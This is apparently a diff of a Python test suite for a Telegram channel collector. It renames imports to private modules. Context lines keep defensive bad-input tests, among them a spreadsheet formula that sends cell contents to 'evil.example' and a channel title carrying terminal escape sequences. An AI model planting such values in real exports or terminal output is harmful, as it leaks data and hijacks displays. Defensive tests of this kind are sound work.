@@ -24,8 +24,8 @@ from typing import Any
 import httpx
 import pytest
 
-from collector.archive import Archive
-from collector.sources.web import PreviewFetcher, WebReport, collect_web
+from collector._archive import Archive
+from collector._sources.web import PreviewFetcher, WebReport, collect_web
 
 ROOT = Path(__file__).resolve().parents[2]
 DOC = ROOT / "docs" / "bad-input.md"
@@ -112,7 +112,7 @@ def _web_big_views(tmp: Path) -> None:
 @case("web-page-crashing-the-parser")
 def _web_parser_crash(tmp: Path) -> None:
     """Whatever a page makes the parser raise, that channel is reported and the next one collected."""
-    import collector.sources.web as web
+    import collector._sources.web as web
 
     real = web.parse_page
 
@@ -151,7 +151,7 @@ FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
 
 
 def _archive_with_text(tmp: Path, text: str, title: str = "Plain Title") -> Path:
-    from collector.archive import upsert as store
+    from collector._archive import upsert as store
 
     path = tmp / "archive.duckdb"
     with Archive(path) as archive, store.transaction(archive):
@@ -165,7 +165,7 @@ def _archive_with_text(tmp: Path, text: str, title: str = "Plain Title") -> Path
 
 @case("csv-formula-in-text")
 def _csv_formula(tmp: Path) -> None:
-    from collector.archive.export import ensure_pseudonym_key, export_archive
+    from collector._archive.export import ensure_pseudonym_key, export_archive
 
     path = _archive_with_text(tmp, FORMULA)
     ensure_pseudonym_key(path, wait=0)
@@ -189,7 +189,7 @@ def _csv_formula(tmp: Path) -> None:
 
 
 def _network_archive(tmp: Path, title: str) -> Path:
-    from collector.archive import upsert as store
+    from collector._archive import upsert as store
 
     path = tmp / "archive.duckdb"
     rows = [{"channel_id": 2, "message_id": m, "posted_at": NOW, "text": "x", "fwd_channel_id": 1,
@@ -209,7 +209,7 @@ def _network_archive(tmp: Path, title: str) -> Path:
 def _xml_title(tmp: Path) -> None:
     import duckdb
 
-    from analysis.export import export_gexf, export_graphml
+    from analysis._export import export_gexf, export_graphml
 
     path = _network_archive(tmp, "Chan\x1b]0;PWNED\x07\x1b[2J\x00end")
     con = duckdb.connect(str(path), read_only=True)
@@ -270,7 +270,7 @@ def _import_in_child(tmp: Path, export: Path) -> tuple[int, str, int]:
     import sys
 
     # VmHWM, not ru_maxrss: ru_maxrss carries the forking parent's peak across exec
-    code = ("import re, sys\nfrom collector.cli.app import app\ntry:\n    app(prog_name='tgspread')\nfinally:\n"
+    code = ("import re, sys\nfrom collector._cli.app import app\ntry:\n    app(prog_name='tgspread')\nfinally:\n"
             "    kb = re.search(r'VmHWM:\\s*(\\d+)', open('/proc/self/status').read()).group(1)\n"
             "    print('PEAK', int(kb) // 1024, file=sys.stderr)")
     proc = subprocess.run([sys.executable, "-c", code, "import", str(export), "--archive", str(tmp / "a.duckdb")],
@@ -353,7 +353,7 @@ def _many_names(tmp: Path) -> None:
     ended): the statements they run do not grow with the names, and the Python lines they run grow at most
     linearly. Each size is checked before the next, ten times larger, is tried, so a quadratic one fails at 200
     names, not after hours."""
-    from collector.scheduling.channel_set import add_channels, list_channels, remove_channels
+    from collector._scheduling.channel_set import add_channels, list_channels, remove_channels
 
     statements: dict[int, int] = {}
     lines: dict[int, int] = {}
@@ -437,7 +437,7 @@ def test_json_of_the_cases_is_plain() -> None:
 
 def test_one_channel_written_five_ways_is_collected_once(tmp_path: Path) -> None:
     """Item 28: ``durov``, ``@Durov``, links and ``tg://`` name one channel: one pass over it, one row."""
-    from collector.parse.channel_ref import distinct_channels
+    from collector._parse.channel_ref import distinct_channels
 
     five = ["osint_demo", "@OSINT_demo", "https://t.me/osint_demo", "t.me/s/osint_demo/110",
             "tg://resolve?domain=osint_demo"]
